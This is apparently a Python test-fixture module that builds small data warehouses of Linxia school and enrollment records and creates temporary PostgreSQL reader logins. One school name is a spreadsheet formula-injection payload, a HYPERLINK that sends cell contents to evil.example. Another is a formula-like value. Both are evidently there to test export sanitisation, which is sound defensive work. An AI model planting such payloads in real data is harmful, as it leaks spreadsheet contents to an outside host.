"""Tiny warehouses for the query tier, built with the warehouse loaders: two schools (one named like a formula) and a few values."""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from contextlib import contextmanager

import polars as pl
import sqlalchemy as sa

from config import Region, RegionTree
from schemas.catalogue import load_catalogue
from schemas.issues import empty_issues
from schemas.staged import StagedTables
from schemas.tables import TABLES, staged_dtypes
from warehouse.engine import make_engine
from warehouse.load import load_year
from warehouse.migrate import migrate
from warehouse.reader import READER_ROLE
from warehouse.runs import start_run
from warehouse.sync import sync_catalogue, sync_regions

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
SCHOOLS = [("6229010001", FORMULA_NAME), ("6229010002", "临夏市第一小学"), ("6229010003", "-2+3")]
REGIONS = RegionTree(
    regions=(
        Region(code="622900", name_zh="临夏回族自治州", name_en="Linxia", level="prefecture"),
        Region(code="622901", name_zh="临夏市", name_en="Linxia City", level="county", parent_code="622900"),
    )
)


def _frame(table: str, rows: list[dict]) -> pl.DataFrame:
    dtypes = {name: getattr(pl, dtype) for name, dtype in staged_dtypes(table).items()}
    return pl.DataFrame([{name: row.get(name) for name in dtypes} for row in rows], schema=dtypes)


def staged() -> StagedTables:
    """The schools of SCHOOLS in county 622901 with one primary enrollment row each (100, 200, 300 students)."""
    frames = {name: _frame(name, []) for name in TABLES}
    frames["schools"] = _frame(
        "schools",
        [{"school_code": code, "school_name": name, "county_code": "622901", "school_type_code": "211", "ownership": "public"} for code, name in SCHOOLS],
    )
    frames["enrollment"] = _frame("enrollment", [{"school_code": code, "stage": "primary", "students": 100 * n} for n, (code, _) in enumerate(SCHOOLS, start=1)])
    return StagedTables(**frames)


def build_warehouse(url: str) -> sa.Engine:
    """A migrated warehouse at ``url`` with 2020 loaded: the schools above and two values per region."""
    engine = make_engine(url)
    migrate(engine)
    with engine.begin() as conn:
        sync_catalogue(conn, load_catalogue())
        sync_regions(conn, REGIONS)
    run_id = start_run(engine, 2020, "manual", "test", "fp", None)
    values = pl.DataFrame(
        [("622900", "senior_ger", 81.2, 812.0, 1000.0), ("622901", "senior_ger", 81.2, 812.0, 1000.0), ("622901", "new_teachers", 12.0, 12.0, None)],
        schema={"region_code": pl.String, "indicator_code": pl.String, "value": pl.Float64, "numerator": pl.Float64, "denominator": pl.Float64},
        orient="row",
    )
    load_year(engine, run_id, 2020, values, staged(), empty_issues(), 5)
    return engine


def snapshot(engine: sa.Engine) -> dict[str, list[tuple]]:
    """Every row of the tables a write would touch, to compare before and after."""
    tables = ("region", "indicator_value", "schools", "enrollment", "etl_run")
    with engine.connect() as conn:
        return {t: sorted(tuple(map(str, row)) for row in conn.execute(sa.text(f"SELECT * FROM {t}"))) for t in tables}


@contextmanager
def reader_login(url: str) -> Iterator[str]:
    """The URL of a new PostgreSQL login in role edustat_reader (made by the migration), for the warehouse at ``url``; dropped afterwards."""
    engine = sa.create_engine(url)
    login = f"analyst_{uuid.uuid4().hex[:10]}"
    with engine.begin() as conn:
        conn.exec_driver_sql(f"CREATE ROLE {login} LOGIN IN ROLE {READER_ROLE}")
    try:
        yield sa.make_url(url).set(username=login, password=None).render_as_string(hide_password=False)
    finally:
        with engine.begin() as conn:
            # Its sessions first: a query left running by a killed client must not keep the role alive.
            conn.exec_driver_sql(f"SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = '{login}'")
            conn.exec_driver_sql(f"DROP ROLE {login}")
        engine.dispose()
